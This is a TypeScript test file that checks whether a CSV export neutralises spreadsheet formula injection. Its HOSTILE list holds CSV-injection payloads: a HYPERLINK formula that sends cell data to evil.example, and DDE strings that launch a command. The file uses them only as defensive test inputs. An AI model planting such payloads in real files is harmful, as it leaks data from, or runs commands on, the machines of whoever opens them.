/**
 * `export events --format csv` on a real DuckDB store: cells a spreadsheet would run as formulas
 * (OWASP, "CSV Injection") are neutralised, and everything else reads back as it was.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { openStore } from '../store/open.ts';
import type { Store } from '../store/store.ts';
import { csvCell, exportEvents } from './export.ts';
import { importRecords } from './import.ts';
import { csvItems } from './parsers/csv.ts';

/** Text an attacker might put in any field of an event, each a formula to a spreadsheet. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

async function exportCsv(store: Store): Promise<Record<string, string>[]> {
  const out = new PassThrough();
  let text = '';
  out.on('data', (d: Buffer) => (text += d.toString('utf8')));
  await exportEvents(store, 'csv', out);
  out.end();
  const rows: Record<string, string>[] = [];
  for await (const item of csvItems((async function* () { yield text; })(), ',', 'export.csv')) {
    assert.ok(item.ok, JSON.stringify(item));
    rows.push(item.row.fields as Record<string, string>);
  }
  return rows;
}

describe('export events --format csv', () => {
  let dir: string;
  let store: Store;
  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'throughline-export-'));
    store = await openStore(path.join(dir, 'db.duckdb'));
    const records = HOSTILE.map((h, i) => ({
      source: 'hostile.jsonl',
      line: i + 1,
      kind: 'interactions' as const,
      fields: { event_id: `h${i}`, ts: '2026-06-01T09:00:00Z', channel: 'web', activity: 'pay_bill/submit_payment', customer_id: h, agent_id: h, text: h, duration_s: 12.5 },
    }));
    await importRecords(store, records, { onReject: (r, reason) => assert.fail(`record ${r.line} rejected: ${reason}`) });
  });
  after(async () => {
    await store.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('no text cell starts with a formula character: each gets a leading quote, and keeps its text after it', async () => {
    const rows = await exportCsv(store);
    assert.equal(rows.length, HOSTILE.length);
    for (const [i, row] of rows.entries()) {
      for (const column of ['customer_id', 'agent_id', 'text']) {
        const cell = row[column]!;
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of h${i}: ${JSON.stringify(cell)}`);
        // The importer trims text, so a leading tab or carriage return is gone by now (the unit test below has them).
        assert.equal(cell, `'${HOSTILE[i]!.trim()}`, `${column} of h${i}`);
      }
      assert.equal(row.duration_s, '12.5', 'numbers are written as numbers');
    }
  });

  test('numbers, negative ones too, are never prefixed; text that only looks like a negative number is', () => {
    assert.equal(csvCell(-5), '-5');
    assert.equal(csvCell(-0.25), '-0.25');
    assert.equal(csvCell('-5'), `"'-5"`);
    assert.equal(csvCell('=1+1'), `"'=1+1"`);
    assert.equal(csvCell('say "=1"'), '"say ""=1"""');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('\t=1+1'), `"'\t=1+1"`);
    assert.equal(csvCell('\r=1+1'), `"'\r=1+1"`);
    assert.equal(csvCell({ note: '=1+1' }), '"{""note"":""=1+1""}"', 'a JSON object starts with a brace');
  });
});
